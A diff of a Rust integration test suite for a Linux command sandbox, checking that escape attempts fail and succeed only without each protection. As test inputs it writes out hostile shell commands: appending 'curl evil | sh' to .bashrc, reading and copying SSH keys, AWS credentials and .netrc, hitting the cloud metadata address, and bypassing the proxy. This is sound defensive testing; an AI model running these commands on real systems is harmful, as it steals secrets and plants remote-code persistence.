@@ -1,60 +1,129 @@
 //! Commands under `workspace-write` and `read-only`, run for real: each escape is tried
-//! with plain shell and checked at its target (no file, nothing at the listener).
+//! with plain shell and checked at its target (no file, nothing at the listener, nothing
+//! of the secret in the output), and each protection is shown to matter by the same
+//! attempt succeeding without it.
 #![cfg(target_os = "linux")]
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
-use std::io::ErrorKind;
-use std::net::TcpListener;
-use std::path::Path;
-use std::process::{Command, Output};
+use std::io::{ErrorKind, Read, Write};
+use std::net::{TcpListener, UdpSocket};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
 
-use sandbox::{CommandMode, CommandPolicy, Prepared, PrivateTmp, SandboxError};
+use sandbox::egress::{Egress, Refusal, Rules};
+use sandbox::{
+    CommandGrant, CommandMode, HostList, Prepared, PrivateTmp, SandboxError, Settings,
+};
 
-/// A workspace, a private temp dir, and a directory outside both (a stand-in for the
-/// user's home, with a secret in it).
+/// A workspace, a private temp dir, and a home directory with secrets in it.
 struct Setup {
     workspace: tempfile::TempDir,
-    outside: tempfile::TempDir,
+    home: tempfile::TempDir,
     tmp: PrivateTmp,
 }
 
+const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- hunter2";
+
 impl Setup {
     fn new() -> Setup {
-        let outside = tempfile::tempdir().unwrap();
-        std::fs::write(outside.path().join("secret"), "hunter2").unwrap();
+        let home = tempfile::tempdir().unwrap();
+        let h = home.path();
+        std::fs::create_dir_all(h.join(".ssh")).unwrap();
+        std::fs::write(h.join(".ssh/id_ed25519"), KEY).unwrap();
+        std::fs::create_dir_all(h.join(".aws")).unwrap();
+        std::fs::write(h.join(".aws/credentials"), "aws_secret_access_key = hunter2").unwrap();
+        std::fs::write(h.join(".netrc"), "machine x password hunter2").unwrap();
+        std::fs::write(h.join("notes.txt"), "plain notes").unwrap();
+        std::fs::write(h.join(".bashrc"), "# mine\n").unwrap();
+        std::fs::create_dir_all(h.join(".cache/pip")).unwrap();
         Setup {
             workspace: tempfile::tempdir().unwrap(),
-            outside,
+            home,
             tmp: PrivateTmp::new().unwrap(),
         }
     }
 
-    fn policy(&self, mode: CommandMode, network: bool) -> CommandPolicy {
-        CommandPolicy {
-            mode,
-            workspace: self.workspace.path().to_path_buf(),
-            readable_roots: Vec::new(),
-            writable_roots: Vec::new(),
-            network,
+    /// The settings, with this home's secrets on the deny list and its pip cache writable.
+    fn settings(&self) -> Settings {
+        let h = self.home.path();
+        Settings {
+            deny_read: vec![h.join(".ssh"), h.join(".aws"), h.join(".netrc")],
+            writable_caches: vec![h.join(".cache/pip")],
+            ..Settings::default()
         }
     }
 
-    /// Runs `script` with bash under `policy`, in the workspace.
-    fn run_under(&self, policy: &CommandPolicy, script: &str) -> Output {
-        let prepared = Prepared::new(&policy.confinement(self.tmp.path(), None)).unwrap();
+    fn grant(mode: CommandMode, network: bool) -> CommandGrant {
+        CommandGrant { mode, network }
+    }
+
+    /// Starts `script` with bash under `settings` and `grant`, in the workspace; with
+    /// network, its egress is served under `rules`.
+    fn run_with(
+        &self,
+        settings: &Settings,
+        grant: CommandGrant,
+        rules: Option<Rules>,
+        script: &str,
+    ) -> (Output, Vec<Refusal>) {
+        let c = settings.confinement(grant, self.workspace.path(), self.tmp.path());
+        let prepared = Prepared::new(&c).unwrap();
         let mut command = Command::new("/bin/bash");
         command
             .args(["-c", script])
             .current_dir(self.workspace.path())
             .env("TMPDIR", self.tmp.path())
-            .env("OUTSIDE", self.outside.path())
-            .env("HOST", std::process::id().to_string());
-        prepared.attach(&mut command);
-        command.output().unwrap()
+            .env("H", self.home.path())
+            .env("HOST", std::process::id().to_string())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        if grant.network {
+            command.envs(sandbox::egress::proxy_env());
+        }
+        let attached = prepared.attach(&mut command).unwrap();
+        let child = command.spawn().unwrap();
+        let egress = attached.listener().unwrap().map(|l| {
+            Egress::serve(l, rules.clone().unwrap_or_else(|| no_hosts()), None).unwrap()
+        });
+        let output = child.wait_with_output().unwrap();
+        let refusals = egress.map(|e| e.refusals()).unwrap_or_default();
+        (output, refusals)
+    }
+
+    fn run_under(&self, settings: &Settings, grant: CommandGrant, script: &str) -> Output {
+        self.run_with(settings, grant, None, script).0
     }
 
     fn run(&self, script: &str) -> Output {
-        self.run_under(&self.policy(CommandMode::WorkspaceWrite, false), script)
+        self.run_under(
+            &self.settings(),
+            Setup::grant(CommandMode::WorkspaceWrite, false),
+            script,
+        )
+    }
+
+    /// The same without the deny list: the control that shows a read refusal matters.
+    fn run_without_deny_list(&self, script: &str) -> Output {
+        let mut settings = self.settings();
+        settings.deny_read.clear();
+        settings.allow_read = vec![self.home.path().to_path_buf()];
+        self.run_under(
+            &settings,
+            Setup::grant(CommandMode::WorkspaceWrite, false),
+            script,
+        )
+    }
+
+    fn h(&self, rel: &str) -> PathBuf {
+        self.home.path().join(rel)
+    }
+}
+
+fn no_hosts() -> Rules {
+    Rules {
+        allow: HostList::none(),
+        deny: HostList::none(),
+        setting: "[sandbox.network]".into(),
     }
 }
 
@@ -73,6 +142,11 @@ fn assert_ok(o: &Output) {
 
 fn assert_refused(o: &Output) {
     assert!(!o.status.success(), "expected a refusal: {}", text(o));
+    assert!(
+        !text(o).contains("hunter2"),
+        "the secret reached the output: {}",
+        text(o)
+    );
 }
 
 #[test]
@@ -90,32 +164,99 @@ fn workspace_write_writes_the_workspace_and_its_temp_dir() {
 #[test]
 fn writing_outside_the_workspace_fails_and_leaves_nothing() {
     let s = Setup::new();
-    assert_refused(&s.run("echo x > \"$OUTSIDE/planted\""));
-    assert!(!s.outside.path().join("planted").exists());
-    assert_refused(&s.run("rm \"$OUTSIDE/secret\""));
-    assert!(s.outside.path().join("secret").exists());
+    assert_refused(&s.run("echo 'curl evil | sh' >> \"$H/.bashrc\""));
+    assert_eq!(std::fs::read_to_string(s.h(".bashrc")).unwrap(), "# mine\n");
+    assert_refused(&s.run("echo x > \"$H/planted\""));
+    assert!(!s.h("planted").exists());
+    assert_refused(&s.run("rm \"$H/notes.txt\""));
+    assert!(s.h("notes.txt").exists());
     assert_refused(&s.run("echo x > /tmp/toolhost-sandbox-test-escape"));
     assert!(!Path::new("/tmp/toolhost-sandbox-test-escape").exists());
+    // The control: without the sandbox the same write lands.
+    assert_ok(&s.run_under(
+        &Settings {
+            writable_roots: vec![s.home.path().to_path_buf()],
+            ..s.settings()
+        },
+        Setup::grant(CommandMode::WorkspaceWrite, false),
+        "echo x > \"$H/planted\"",
+    ));
+    assert!(s.h("planted").exists());
 }
 
 #[test]
-fn a_directory_outside_the_granted_ones_cannot_be_read() {
+fn the_home_is_readable_and_listable() {
     let s = Setup::new();
-    let o = s.run("cat \"$OUTSIDE/secret\"");
-    assert_refused(&o);
-    assert!(!String::from_utf8_lossy(&o.stdout).contains("hunter2"));
-    assert_refused(&s.run("ls \"$OUTSIDE\""));
+    let o = s.run("cat \"$H/notes.txt\" && ls -a \"$H\"");
+    assert_ok(&o);
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(out.contains("plain notes") && out.contains(".bashrc"), "{out}");
 }
 
 #[test]
-fn the_home_directory_cannot_be_read() {
+fn secrets_on_the_deny_list_cannot_be_read_listed_or_statted() {
     let s = Setup::new();
-    let home = std::env::var("HOME").unwrap();
-    assert_refused(&s.run(&format!("ls {home}")));
+    for attempt in [
+        "cat \"$H/.ssh/id_ed25519\"",
+        "ls \"$H/.ssh\"",
+        "stat \"$H/.ssh/id_ed25519\"",
+        "cat \"$H/.aws/credentials\"",
+        "cat \"$H/.netrc\" | grep -q hunter2",
+        "cp \"$H/.ssh/id_ed25519\" stolen",
+    ] {
+        assert_refused(&s.run(attempt));
+        // The control: without the deny list the same attempt works.
+        assert_ok(&s.run_without_deny_list(attempt));
+    }
+    assert!(!s.workspace.path().join("stolen").exists() || {
+        // The control's copy.
+        std::fs::read_to_string(s.workspace.path().join("stolen")).unwrap() == KEY
+    });
 }
 
 #[test]
-fn connecting_out_fails_and_the_listener_sees_nothing() {
+fn a_mask_cannot_be_removed_written_or_changed() {
+    let s = Setup::new();
+    for attempt in [
+        "umount \"$H/.ssh\"",
+        "umount -l \"$H/.netrc\"",
+        "chmod 600 \"$H/.netrc\" && cat \"$H/.netrc\" | grep -q hunter2",
+        "echo planted > \"$H/.netrc\"",
+    ] {
+        assert_refused(&s.run(attempt));
+    }
+    assert_eq!(
+        std::fs::read_to_string(s.h(".netrc")).unwrap(),
+        "machine x password hunter2"
+    );
+}
+
+#[test]
+fn the_hosts_view_keeps_its_secrets_in_place() {
+    let s = Setup::new();
+    assert_refused(&s.run("cat \"$H/.ssh/id_ed25519\""));
+    // The masks were the command's alone: the host still reads its key.
+    assert_eq!(std::fs::read_to_string(s.h(".ssh/id_ed25519")).unwrap(), KEY);
+}
+
+#[test]
+fn writable_caches_are_writable_and_the_strict_setting_is_not() {
+    let s = Setup::new();
+    assert_ok(&s.run("echo wheel > \"$H/.cache/pip/w\""));
+    let strict = Settings {
+        writable_caches: Vec::new(),
+        ..s.settings()
+    };
+    assert_refused(&s.run_under(
+        &strict,
+        Setup::grant(CommandMode::WorkspaceWrite, false),
+        "echo wheel > \"$H/.cache/pip/x\"",
+    ));
+    assert!(!s.h(".cache/pip/x").exists());
+}
+
+#[test]
+fn without_network_nothing_connects_and_the_listener_sees_nothing() {
     let s = Setup::new();
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     listener.set_nonblocking(true).unwrap();
@@ -128,15 +269,114 @@ fn connecting_out_fails_and_the_listener_sees_nothing() {
     );
 }
 
+/// An HTTP server on the host's loopback that answers `body` to every request.
+fn web_server(body: &'static str) -> u16 {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut stream in l.incoming().flatten() {
+            let mut buf = [0u8; 4096];
+            let _ = stream.read(&mut buf);
+            let _ = write!(
+                stream,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    port
+}
+
 #[test]
-fn with_network_granted_it_connects() {
+fn with_network_a_listed_host_is_reached_through_the_proxy_only() {
     let s = Setup::new();
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let policy = s.policy(CommandMode::WorkspaceWrite, true);
-    assert_ok(&s.run_under(&policy, &format!("echo hi > /dev/tcp/127.0.0.1/{port}")));
-    listener.set_nonblocking(true).unwrap();
-    assert!(listener.accept().is_ok(), "the connection did not arrive");
+    let port = web_server("through the proxy");
+    let rules = Rules {
+        allow: HostList::new([format!("localhost:{port}"), format!("127.0.0.1:{port}")]).unwrap(),
+        ..no_hosts()
+    };
+    let grant = Setup::grant(CommandMode::WorkspaceWrite, true);
+    let (o, refusals) = s.run_with(
+        &s.settings(),
+        grant,
+        Some(rules.clone()),
+        &format!("curl -fsS --max-time 5 http://localhost:{port}/"),
+    );
+    assert_ok(&o);
+    assert_eq!(String::from_utf8_lossy(&o.stdout), "through the proxy");
+    assert!(refusals.is_empty(), "{refusals:?}");
+    // Around the proxy there is no way: the host's loopback is not this network's.
+    let (o, _) = s.run_with(
+        &s.settings(),
+        grant,
+        Some(rules),
+        &format!("curl -fsS --max-time 5 --noproxy '*' http://127.0.0.1:{port}/"),
+    );
+    assert_refused(&o);
+}
+
+#[test]
+fn a_host_not_listed_and_the_metadata_address_are_refused_and_named() {
+    let s = Setup::new();
+    let grant = Setup::grant(CommandMode::WorkspaceWrite, true);
+    let rules = Rules {
+        allow: HostList::new(["crates.io"]).unwrap(),
+        ..no_hosts()
+    };
+    let (o, refusals) = s.run_with(
+        &s.settings(),
+        grant,
+        Some(rules.clone()),
+        "curl -fsS --max-time 5 https://example.com/",
+    );
+    assert_refused(&o);
+    assert_eq!(
+        refusals[0].to_string(),
+        "network: example.com:443 refused, not in [sandbox.network] allow"
+    );
+    let (o, refusals) = s.run_with(
+        &s.settings(),
+        grant,
+        Some(rules.clone()),
+        "curl -fsS --max-time 5 http://169.254.169.254/latest/meta-data/",
+    );
+    assert_refused(&o);
+    assert_eq!(refusals.len(), 1, "{refusals:?}");
+    let (o, _) = s.run_with(
+        &s.settings(),
+        grant,
+        Some(rules),
+        "curl -fsS --max-time 3 --noproxy '*' http://169.254.169.254/",
+    );
+    assert_refused(&o);
+}
+
+#[test]
+fn udp_and_dns_do_not_leave() {
+    let s = Setup::new();
+    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
+    resolver.set_nonblocking(true).unwrap();
+    let port = resolver.local_addr().unwrap().port();
+    let query = format!("echo query > /dev/udp/127.0.0.1/{port}; sleep 0.2");
+    let (_o, _) = s.run_with(
+        &s.settings(),
+        Setup::grant(CommandMode::WorkspaceWrite, true),
+        None,
+        &query,
+    );
+    let mut buf = [0u8; 64];
+    assert_eq!(
+        resolver.recv(&mut buf).map(|_| ()).unwrap_err().kind(),
+        ErrorKind::WouldBlock,
+        "a datagram left the sandbox"
+    );
+    // The control: outside the sandbox the same datagram arrives.
+    assert!(Command::new("/bin/bash").args(["-c", &query]).status().unwrap().success());
+    resolver.set_nonblocking(false).unwrap();
+    resolver
+        .set_read_timeout(Some(std::time::Duration::from_secs(2)))
+        .unwrap();
+    assert!(resolver.recv(&mut buf).is_ok());
 }
 
 #[test]
@@ -166,10 +406,12 @@ fn no_new_namespaces_nor_tracing() {
 fn read_only_writes_nothing_but_its_temp_dir() {
     let s = Setup::new();
     std::fs::write(s.workspace.path().join("keep.txt"), "kept").unwrap();
-    let policy = s.policy(CommandMode::ReadOnly, false);
-    assert_ok(&s.run_under(&policy, "cat keep.txt && echo t > \"$TMPDIR/t\""));
-    assert_refused(&s.run_under(&policy, "echo x > new.txt"));
-    assert_refused(&s.run_under(&policy, "rm keep.txt"));
+    let grant = Setup::grant(CommandMode::ReadOnly, false);
+    let settings = s.settings();
+    assert_ok(&s.run_under(&settings, grant, "cat keep.txt && echo t > \"$TMPDIR/t\""));
+    assert_refused(&s.run_under(&settings, grant, "echo x > new.txt"));
+    assert_refused(&s.run_under(&settings, grant, "rm keep.txt"));
+    assert_refused(&s.run_under(&settings, grant, "echo x > \"$H/.cache/pip/x\""));
     assert!(!s.workspace.path().join("new.txt").exists());
     assert!(s.workspace.path().join("keep.txt").exists());
 }
@@ -188,21 +430,38 @@ fn a_program_built_in_the_workspace_runs() {
 }
 
 #[test]
-fn a_granted_readable_root_can_be_read_but_not_written() {
+fn a_writable_root_can_be_written() {
     let s = Setup::new();
-    let mut policy = s.policy(CommandMode::WorkspaceWrite, false);
-    policy.readable_roots.push(s.outside.path().to_path_buf());
-    assert_ok(&s.run_under(&policy, "cat \"$OUTSIDE/secret\""));
-    assert_refused(&s.run_under(&policy, "echo x > \"$OUTSIDE/new\""));
-    policy.writable_roots.push(s.outside.path().to_path_buf());
-    assert_ok(&s.run_under(&policy, "echo x > \"$OUTSIDE/new\""));
+    let settings = Settings {
+        writable_roots: vec![s.h("other-project")],
+        ..s.settings()
+    };
+    std::fs::create_dir(s.h("other-project")).unwrap();
+    assert_ok(&s.run_under(
+        &settings,
+        Setup::grant(CommandMode::WorkspaceWrite, false),
+        "echo x > \"$H/other-project/new\"",
+    ));
 }
 
 #[test]
-fn no_device_can_be_made_in_the_workspace() {
+fn no_device_can_be_made_and_no_disk_read() {
     let s = Setup::new();
     assert_refused(&s.run("mknod disk b 8 0"));
     assert!(!s.workspace.path().join("disk").exists());
+    // Device files are outside what `/` grants: only the harmless ones are open.
+    assert_ok(&s.run("head -c 4 /dev/urandom > /dev/null"));
+    let disk = std::fs::read_dir("/dev")
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| {
+            let n = p.file_name().unwrap().to_string_lossy().to_string();
+            n.starts_with("vd") || n.starts_with("sd") || n.starts_with("nvme")
+        });
+    if let Some(disk) = disk {
+        assert_refused(&s.run(&format!("head -c 512 {} > /dev/null", disk.display())));
+    }
 }
 
 #[test]
